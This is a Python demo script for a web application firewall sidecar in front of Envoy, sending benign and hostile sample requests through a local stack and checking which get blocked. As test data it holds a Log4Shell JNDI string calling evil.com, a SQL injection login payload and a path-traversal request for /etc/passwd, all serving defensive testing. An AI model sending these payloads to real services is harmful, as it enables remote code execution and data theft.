"""`make demo`: real Envoy, the sidecar and a sample upstream; a good and a bad request.

python -m demo           stays up afterwards, so that you can try your own
python -m demo --check   ends; exit status 0 only if every verdict was right
"""

from __future__ import annotations

import argparse
import os
import signal
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

from demo.stack import Stack, StackError, find_crs

BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "Accept-Language": "en-US,en;q=0.5",
    "Host": "shop.example.com",
}
JNDI = urllib.parse.quote("${jndi:ldap://evil.com/a}", safe="")
REQUESTS = [
    ("a browser opens a page", "/hello?name=Ada", None, 200),
    ("Log4Shell in the query", f"/hello?name={JNDI}", None, 403),
    ("an ordinary form", "/login", b"user=ada&password=correct+horse", 200),
    ("SQL injection in a form", "/login", b"user=ada%27+or+%271%27%3D%271&password=x", 403),
    ("a page that leaks a database error", "/leak", None, 403),
]


def request(stack: Stack, path: str, body: bytes | None) -> int:
    """The status of one request through Envoy."""
    sent = urllib.request.Request(stack.url + path, data=body, headers=BROWSER)
    try:
        with urllib.request.urlopen(sent, timeout=10) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code


def curl(stack: Stack, path: str, body: bytes | None) -> str:
    """The same request for a person to type."""
    data = f" -d '{body.decode()}'" if body else ""
    return f"curl -i -H 'Host: shop.example.com'{data} '{stack.url}{path}'"


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m demo", description=__doc__)
    parser.add_argument("--check", action="store_true", help="end after the requests")
    parser.add_argument("--mode", default="buffered", help="a bootstrap of deploy/envoy (default: buffered)")
    parser.add_argument("--baseline", action="store_true", help="use the built-in rules even where a CRS is found")
    arguments = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    crs: Path | None = None if arguments.baseline else find_crs()
    rules = f"OWASP Core Rule Set ({crs.name})" if crs else "built-in baseline rules (no Core Rule Set found)"
    print(f"Starting a sample upstream, envoy-waf with {rules}, and Envoy ...", flush=True)
    wrong = 0
    try:
        with Stack(arguments.mode, crs=crs) as stack:
            for title, path, body, expected in REQUESTS:
                status = request(stack, path, body)
                verdict = "blocked" if status == 403 else "passed"
                mark = "ok" if status == expected else f"WRONG, expected {expected}"
                wrong += status != expected
                print(f"\n  {title}\n    {curl(stack, path, body)}\n    -> {status} {verdict}   [{mark}]")
            if arguments.check:
                print(f"\n{len(REQUESTS)} requests, {wrong} wrong verdicts")
                return 1 if wrong else 0
            print(
                f"""
Everything keeps running until Ctrl-C.  Try:
  {curl(stack, "/hello?file=../../../../etc/passwd", None)}
  http://127.0.0.1:{stack.admin_port}/                   the dashboard, in a browser
  .venv/bin/envoy-waf explain --id REFERENCE --admin http://127.0.0.1:{stack.admin_port}    why a request was blocked
  curl -s http://127.0.0.1:{stack.admin_port}/status     what is loaded
  curl -s http://127.0.0.1:{stack.admin_port}/metrics    what happened, for Prometheus
  tail -f {stack.sidecar.output}      why it was blocked
Then put it before your own service: README.md, "Put it in front of your service".""",
                flush=True,
            )
            signal.pause()
    except KeyboardInterrupt:
        print()
    except StackError as error:
        print(f"the demo could not start: {error}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    os.environ.setdefault("PYTHONUNBUFFERED", "1")
    sys.exit(main())
